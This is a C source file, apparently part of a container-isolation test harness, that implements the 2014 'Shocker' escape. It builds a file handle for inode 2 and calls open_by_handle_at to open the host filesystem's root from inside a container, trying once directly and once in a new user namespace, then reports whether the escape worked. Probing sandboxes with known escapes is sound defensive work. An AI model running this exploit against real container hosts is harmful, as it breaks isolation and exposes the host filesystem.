/* "Shocker" (2014): open_by_handle_at opens any inode of a filesystem by
 * handle, past the mount namespace and the rootfs.  The container's root
 * lives on some host filesystem; its root directory (inode 2 on ext4, a
 * FILEID_INO32_GEN handle) is opened through a descriptor on the container's
 * "/".  A directory that opens, and is not the container's root, is the
 * escape.  Tried in the container, then in a new user namespace. */
#include "escape.h"

#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int try_handle(char *msg, size_t n, const char *where)
{
	int mnt = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (mnt < 0) {
		snprintf(msg, n, "%s: open /: %s", where, en(errno));
		return 0;
	}
	struct {
		struct file_handle fh;
		unsigned char bytes[8];
	} h;
	memset(&h, 0, sizeof(h));
	h.fh.handle_bytes = 8;
	h.fh.handle_type = 1; /* FILEID_INO32_GEN */
	unsigned int ino = 2, gen = 0;
	memcpy(h.fh.f_handle, &ino, 4);
	memcpy(h.fh.f_handle + 4, &gen, 4);
	int fd = open_by_handle_at(mnt, &h.fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	int e = errno;
	close(mnt);
	if (fd < 0) {
		snprintf(msg, n, "%s: open_by_handle_at: %s", where, en(e));
		return 0;
	}
	struct stat st, root;
	fstat(fd, &st);
	stat("/", &root);
	if (st.st_ino == root.st_ino && st.st_dev == root.st_dev) {
		snprintf(msg, n, "%s: open_by_handle_at opened the container's own root", where);
		return 0;
	}
	snprintf(msg, n, "%s: open_by_handle_at opened the host filesystem's root directory (fd %d)", where, fd);
	return 1;
}

static int in_userns(void *arg, char *msg, size_t n)
{
	(void)arg;
	int r = enter_userns(CLONE_NEWNS);
	if (r < 0) {
		snprintf(msg, n, "unshare(CLONE_NEWUSER): %s", en(-r));
		return 0;
	}
	return try_handle(msg, n, "in a new user namespace");
}

ATTEMPT(open_by_handle_at)
{
	(void)argc;
	(void)argv;
	char here[512], there[1024];
	if (try_handle(here, sizeof(here), "in the container"))
		escaped("%s", here);
	if (in_child(in_userns, NULL, there, sizeof(there)))
		escaped("%s", there);
	blocked("%s; %s", here, there);
}
